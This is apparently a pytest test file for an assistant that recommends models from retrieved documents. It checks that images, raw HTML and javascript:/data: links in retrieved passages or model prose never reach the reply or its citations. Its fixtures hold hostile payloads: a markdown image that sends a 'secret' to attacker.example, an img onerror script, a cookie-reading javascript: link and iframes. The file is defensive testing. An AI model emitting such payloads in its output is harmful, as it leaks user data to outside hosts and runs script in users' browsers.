"""Evidence that cannot reach out: a document's image, raw HTML or javascript: link never reaches a reply.

The passages come from a user's own document (the retriever returns them as the index stores them); the
reply's text, the language model's prose written from them and the citation URLs must carry none of it.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from assistant.catalog import Catalog
from assistant.dialogue import Reply, respond
from tests.unit.dialogue.fakes import FakeBackend, FakeRetriever, assistant, passage, user

NEED = "I'm a radiologist and I want to draft CT reports; the data can't leave the hospital."
ANSWERS = "Only text goes in, and we run it on our own servers."
LEAK = "https://attacker.example/pixel.png?d=secret"
HOSTILE_TEXT = (
    f"{{name}} drafted reports that readers preferred. ![chart of results]({LEAK}) "
    '<img src="https://attacker.example/img.gif" onerror="alert(1)"> '
    "[details](javascript:alert(document.cookie)) <iframe src='https://attacker.example/'></iframe>"
)


def recommend_with(catalog: Catalog, backend: FakeBackend | None, retriever: FakeRetriever) -> Reply:
    """The recommendation (second turn) with the given backend and retriever."""
    messages = [user(NEED)]
    first = respond(catalog, messages, backend=None, retriever=retriever)
    messages += [assistant(first.text), user(ANSWERS)]
    return respond(catalog, messages, backend=backend, retriever=retriever)


def hostile_retriever(name: str, url: str | None = "https://example.org/paper") -> FakeRetriever:
    """One passage about ``name`` whose text carries an image, HTML and a javascript: link."""
    found = passage("doc-1", f"{name} evaluation", HOSTILE_TEXT.format(name=name))
    return FakeRetriever([replace(found, url=url)])


def top_name(catalog: Catalog) -> tuple[str, str]:
    """The top recommended model's name and label (without LLM and evidence)."""
    reply = recommend_with(catalog, None, FakeRetriever())
    assert reply.recommendation is not None
    top = reply.recommendation.matches[0]
    return top.name, top.label


def assert_nothing_reaches_out(text: str) -> None:
    assert "attacker.example" not in text
    assert "![" not in text
    assert "<img" not in text.lower() and "<iframe" not in text.lower()
    assert "javascript:" not in text.lower()


def test_quoted_evidence_carries_no_image_html_or_script_link(catalog: Catalog) -> None:
    name, _ = top_name(catalog)
    reply = recommend_with(catalog, None, hostile_retriever(name))
    assert reply.citations, "the passage names the model, so it is cited"
    assert "readers preferred" in reply.text  # the evidence is still quoted, only its active parts are gone
    assert_nothing_reaches_out(reply.text)
    for citation in reply.extension()["citations"]:
        assert_nothing_reaches_out(str(citation["text"]))


def guard_noticed_a_link(reply: Reply) -> bool:
    """The reply says the language model's text had a link the facts do not back (the whole prose replaced by
    the template, or the one sentence left out)."""
    return any("not found in the facts" in n and "link" in n for n in reply.notices)


def test_llm_prose_that_repeats_the_documents_image_url_is_rejected(catalog: Catalog) -> None:
    name, label = top_name(catalog)
    prose = f"{label} ranks first; readers preferred its drafts [1]. ![results]({LEAK})"
    reply = recommend_with(catalog, FakeBackend([prose]), hostile_retriever(name))
    assert guard_noticed_a_link(reply)
    assert_nothing_reaches_out(reply.text)


@pytest.mark.parametrize(
    ("prose", "hostile"),
    [
        ("{label} ranks first [1]. <img src=https://example.org/paper>", "<img"),
        ("{label} ranks first [1]; see [the paper](javascript:alert(1)).", "javascript:"),
        ("{label} ranks first [1]; see <javascript:alert(1)>.", "javascript:"),
        ("{label} ranks first [1]. ![paper](https://example.org/paper)", "![paper]"),
    ],
)
def test_prose_with_an_image_html_or_other_scheme_is_rejected_even_if_the_url_is_a_fact(
    catalog: Catalog, prose: str, hostile: str
) -> None:
    name, label = top_name(catalog)
    text = prose.format(label=label)
    reply = recommend_with(catalog, FakeBackend([text]), hostile_retriever(name))
    assert hostile not in reply.text
    assert guard_noticed_a_link(reply)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x"])
def test_citation_urls_other_than_http_are_dropped(catalog: Catalog, url: str) -> None:
    name, _ = top_name(catalog)
    reply = recommend_with(catalog, None, hostile_retriever(name, url=url))
    (citation,) = reply.extension()["citations"]
    assert citation["url"] is None
    assert url not in reply.text


def test_http_citation_urls_are_kept(catalog: Catalog) -> None:
    name, _ = top_name(catalog)
    reply = recommend_with(catalog, None, hostile_retriever(name))
    (citation,) = reply.extension()["citations"]
    assert citation["url"] == "https://example.org/paper"
    assert "https://example.org/paper" in reply.text
